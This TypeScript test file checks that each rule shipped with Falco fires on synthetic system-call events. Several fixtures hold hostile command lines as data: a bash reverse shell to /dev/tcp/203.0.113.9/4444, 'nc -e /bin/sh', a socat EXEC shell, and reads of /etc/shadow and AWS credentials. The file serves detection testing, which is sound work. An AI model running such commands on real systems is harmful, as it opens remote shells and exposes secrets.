import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import { byteString, Ruleset, type ByteString } from '../../../../engine/index.ts';
import { engineLanguage, loadRules, type LoadedRule } from '../../../../rules/index.ts';
import { Scene } from '../../../../rules/testing/scene/index.ts';
import { hasOracle, oraclePath } from '../../../oracle.ts';
import { factsOf, type Facts } from './facts.ts';

const container = { 'container.id': '3f2a9c0d1b77' };
const run = (name: string, more: Facts = {}): Facts => ({ 'evt.type': 'execve', 'proc.name': name, ...more });
const runInContainer = (name: string, more: Facts = {}) => run(name, { ...container, ...more });
const read = (path: string, more: Facts = {}): Facts => ({ 'evt.type': 'openat', 'fd.name': path, ...more });
const write = (path: string, more: Facts = {}): Facts => read(path, { 'evt.is_open_write': true, ...more });

/** Facts at which each rule of the files that come with Falco fires: what rules ask about can be said. */
const CASES: Readonly<Record<string, Readonly<Record<string, Facts>>>> = {
  'falco_rules.yaml': {
    'Directory traversal monitored file read': read('/etc/passwd', {
      'fd.nameraw': '../../../../etc/passwd',
    }),
    'Read sensitive file trusted after startup': read('/etc/shadow', {
      'proc.name': 'nginx',
      'proc.duration': 60_000_000_000,
    }),
    'Read sensitive file untrusted': read('/etc/shadow'),
    'Run shell untrusted': run('bash', { 'proc.pname': 'nginx', 'proc.pexe': 'nginx' }),
    'System user interactive': run('id', { 'proc.aname': 'sshd', 'user.name': 'www-data' }),
    'Terminal shell in container': runInContainer('bash', { 'proc.pname': 'runc', 'proc.tty': 34816 }),
    'Contact K8S API Server From Container': {
      'evt.type': 'connect',
      ...container,
      'fd.sip.name': 'kubernetes.default.svc.cluster.local',
    },
    'Netcat Remote Code Execution in Container': runInContainer('nc', { 'proc.cmdline': 'nc -e /bin/sh' }),
    'Search Private Keys or Passwords': run('find', { 'proc.args': '/root -name id_rsa' }),
    'Clear Log Activities': write('/var/log/syslog', { 'evt.arg.flags': 'O_TRUNC|O_WRONLY' }),
    'Remove Bulk Data from Disk': run('shred'),
    'Create Symlink Over Sensitive Files': { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc' },
    'Create Hardlink Over Sensitive Files': { 'evt.type': 'linkat', 'evt.arg.oldpath': '/etc/shadow' },
    'Packet socket created in container': {
      'evt.type': 'socket',
      ...container,
      'evt.arg.domain': 'AF_PACKET',
    },
    'Redirect STDOUT/STDIN to Network Connection in Container': {
      'evt.type': 'dup2',
      ...container,
      'evt.rawres': 1,
      'fd.type': 'ipv4',
    },
    'Linux Kernel Module Injection Detected': {
      'evt.type': 'finit_module',
      ...container,
      'thread.cap_effective': 'CAP_SYS_MODULE',
    },
    'Debugfs Launched in Privileged Container': runInContainer('debugfs', { 'container.privileged': true }),
    'Detect release_agent File Container Escapes': write('/sys/fs/cgroup/release_agent', {
      ...container,
      'thread.cap_effective': ['CAP_SYS_ADMIN'],
    }),
    'PTRACE attached to process': { 'evt.type': 'ptrace', 'evt.arg.request': 'PTRACE_ATTACH' },
    'PTRACE anti-debug attempt': { 'evt.type': 'ptrace', 'evt.arg.request': 'PTRACE_TRACEME' },
    'Find AWS Credentials': run('grep', { 'proc.args': 'aws_access_key_id /root' }),
    'Execution from /dev/shm': run('x', { 'proc.exe': '/dev/shm/x' }),
    'Drop and execute new binary in container': runInContainer('x', { 'proc.is_exe_upper_layer': true }),
    'Disallowed SSH Connection Non Standard Port': {
      'evt.type': 'connect',
      'proc.exe': '/usr/bin/ssh',
      'fd.l4proto': 'tcp',
      'fd.sport': 443,
    },
    'Fileless execution via memfd_create': run('x', { 'proc.is_exe_from_memfd': true }),
  },
  'falco-incubating_rules.yaml': {
    'Modify Shell Configuration File': write('/home/a/.bashrc'),
    'Schedule Cron Jobs': write('/etc/cron.d/x'),
    'Read ssh information': read('/root/.ssh', { 'fd.type': 'directory' }),
    'DB program spawned process': run('sh', { 'proc.pname': 'mysqld' }),
    'Change thread namespace': { 'evt.type': 'setns' },
    'Change namespace privileges via unshare': { 'evt.type': 'unshare', ...container },
    'Launch Privileged Container': runInContainer('x', { 'proc.vpid': 1, 'container.privileged': true }),
    'Launch Excessively Capable Container': runInContainer('x', {
      'proc.vpid': 1,
      'thread.cap_permitted': 'CAP_CHOWN CAP_SYS_ADMIN',
    }),
    'System procs network activity': { 'evt.type': 'connect', 'proc.name': 'bash', 'fd.sip': '203.0.113.9' },
    'Program run with disallowed http proxy env': run('wget', { 'proc.env[HTTP_PROXY]': 'http://x' }),
    'Unexpected UDP Traffic': { 'evt.type': 'connect', 'fd.l4proto': 'udp', 'fd.sport': 4242 },
    'Non sudo setuid': { 'evt.type': 'setuid', 'evt.arg.uid': 'bob' },
    'User mgmt binaries': run('useradd', { 'proc.pname': 'bash' }),
    'Create files below dev': write('/dev/x', { 'evt.is_open_create': true }),
    'Contact EC2 Instance Metadata Service From Container': {
      'evt.type': 'connect',
      ...container,
      'fd.sip': '169.254.169.254',
    },
    'Contact cloud metadata service from container': {
      'evt.type': 'connect',
      ...container,
      'fd.sip': '169.254.169.254',
    },
    'Launch Package Management Process in Container': runInContainer('apt', { 'user.name': 'root' }),
    'Launch Suspicious Network Tool in Container': runInContainer('nmap'),
    'Launch Suspicious Network Tool on Host': run('nmap', { 'container.id': 'host' }),
    'Delete or rename shell history': { 'evt.type': 'unlinkat', 'evt.arg.name': '/root/.bash_history' },
    'Set Setuid or Setgid bit': { 'evt.type': 'fchmodat', 'evt.arg.mode': 'S_ISUID|S_IRUSR' },
    'Launch Remote File Copy Tools in Container': runInContainer('scp'),
    'Mount Launched in Privileged Container': runInContainer('mount', {
      'container.privileged': true,
      'proc.args': '/dev/sda1 /mnt',
    }),
    'Launch Ingress Remote File Copy Tools in Container': runInContainer('curl', {
      'proc.cmdline': 'curl -o x http://x',
    }),
    'Read environment variable from /proc files': read('/proc/1/environ', container),
    'Exfiltrating Artifacts via Kubernetes Control Plane': read('/opt/x', {
      ...container,
      'proc.name': 'tar',
      'proc.pname': null,
    }),
    'Adding ssh keys to authorized_keys': write('/root/.ssh/authorized_keys'),
    'Potential Local Privilege Escalation via Environment Variables Misuse': run('su', {
      'proc.env': ['PATH=/bin', 'GLIBC_TUNABLES=glibc.malloc.mxfast=1'],
    }),
    'Backdoored library loaded into SSHD (CVE-2024-3094)': read('/usr/lib/liblzma.so.5.6.1', {
      'proc.name': 'sshd',
    }),
    'BPF Program Not Profiled': { 'evt.type': 'bpf', 'evt.arg.cmd': 'BPF_PROG_LOAD' },
  },
  'falco-sandbox_rules.yaml': {
    'Unexpected inbound connection source': { 'evt.type': 'accept4', 'fd.cip': '198.51.100.7' },
    'Read Shell Configuration File': read('/etc/profile'),
    'Update Package Repository': { 'evt.type': 'renameat2', 'evt.arg.newpath': '/etc/apt/sources.list.d/x' },
    'Write below binary dir': write('/usr/bin/x'),
    'Write below monitored dir': write('/boot/x'),
    'Write below etc': write('/etc/x'),
    'Write below root': write('/root/x'),
    'Write below rpm database': write('/var/lib/rpm/x'),
    'Modify binary dirs': { 'evt.type': 'rename', 'fs.path.source': '/bin/ls', 'fs.path.target': '/tmp/ls' },
    'Mkdir binary dirs': { 'evt.type': 'mkdir', 'fs.path.name': '/usr/bin/x' },
    'Launch Sensitive Mount Container': runInContainer('x', {
      'proc.vpid': 1,
      'container.mount.dest[/etc]': '/host/etc',
    }),
    'Interpreted procs inbound network activity': { 'evt.type': 'accept', 'proc.name': 'python3' },
    'Interpreted procs outbound network activity': { 'evt.type': 'connect', 'proc.name': 'python3' },
    'Unexpected K8s NodePort Connection': { 'evt.type': 'connect', ...container, 'fd.rport': 30080 },
    'Create Hidden Files or Directories': { 'evt.type': 'mkdirat', 'evt.arg.path': '/tmp/.x' },
    'Detect outbound connections to common miner pool ports': {
      'evt.type': 'connect',
      'fd.sip.name': 'xmr.crypto-pool.fr',
      'fd.sport': 443,
    },
    'Detect crypto miners using the Stratum protocol': run('x', { 'proc.args': '-o stratum+tcp://x' }),
    'Kubernetes Client Tool Launched in Container': runInContainer('kubectl'),
    'Container Drift Detected (chmod)': {
      'evt.type': 'chmod',
      ...container,
      'evt.arg.mode': '0755',
    },
    'Container Drift Detected (open+create)': {
      'evt.type': 'openat',
      ...container,
      'evt.is_open_exec': true,
    },
    'Container Run as Root User': runInContainer('x', { 'proc.vpid': 1, 'user.uid': 0 }),
    'Sudo Potential Privilege Escalation': run('sudoedit', { 'proc.args': ['-s', '\\ x'] }),
    'Unprivileged Delegation of Page Faults Handling to a Userspace Process': {
      'evt.type': 'userfaultfd',
      'user.uid': 1000,
    },
    'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)': run('pkexec', { 'proc.args': '' }),
    'Java Process Class File Download': {
      'evt.type': 'recvfrom',
      'proc.exe': '/usr/bin/java',
      'fd.type': 'ipv4',
      'evt.buffer': '0xcafebabe00000034',
    },
    'Modify Container Entrypoint': write('/proc/self/exe', container),
    'Decoding Payload in Container': runInContainer('base64', { 'proc.args': '-d x' }),
    'Basic Interactive Reconnaissance': run('whoami', { 'proc.tty': 34816, 'proc.is_vpgid_leader': true }),
    'Netcat/Socat Remote Code Execution on Host': run('socat', { 'proc.args': 'tcp-l:1 EXEC:sh' }),
    'Network Tool Executed During NPM Package Install': runInContainer('nc', { 'proc.aname[2]': 'npm' }),
    'Known Cryptominer Process Executed': run('xmrig'),
    'Web Server Spawned Shell': run('sh', { 'proc.pname': 'nginx' }),
    'Web Server Spawned Suspicious Child Process': run('whoami', { 'proc.pname': 'nginx' }),
    'Reverse Shell from Web Server': run('bash', {
      'proc.pname': 'nginx',
      'proc.args': ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    }),
    'Privileged Container Device Access': read('/dev/sda', container),
    'Container Access to Host Sensitive Paths': read('/host/etc/shadow', container),
  },
};

/** Rules that no event can satisfy as they are shipped. */
const NEVER: ReadonlySet<string> = new Set([
  // It asks for a namespace in a list that is empty until somebody fills it.
  'Network Connection outside Local Subnet',
  // All containers are allowed until somebody says otherwise.
  'Launch Disallowed Container',
]);

describe('scenes for the rules that come with Falco', () => {
  if (!hasOracle()) return;
  for (const [file, cases] of Object.entries(CASES))
    describe(file, () => {
      const bytes = readFileSync(oraclePath('rules', file));
      const content = byteString(bytes, 0, bytes.length);
      const { rules } = loadRules([{ name: file, content }], engineLanguage);
      const byName = new Map<ByteString, LoadedRule>(rules.map((rule) => [rule.name, rule]));

      it('has a case for each rule', () => {
        const known = new Set([...Object.keys(cases), ...NEVER]);
        expect([...byName.keys()].filter((name) => !known.has(name))).to.deep.equal([]);
        expect(Object.keys(cases).filter((name) => !byName.has(name))).to.deep.equal([]);
      });

      for (const [name, facts] of Object.entries(cases))
        it(name, () => {
          const { event, visible } = new Scene().apply(factsOf(facts));
          expect(visible).to.equal(true);
          const ruleset = new Ruleset([[0, { ...byName.get(name)!, enabled: true }]], { matching: 'first' });
          expect(ruleset.match(event)).to.have.length(1);
        });
    });
});
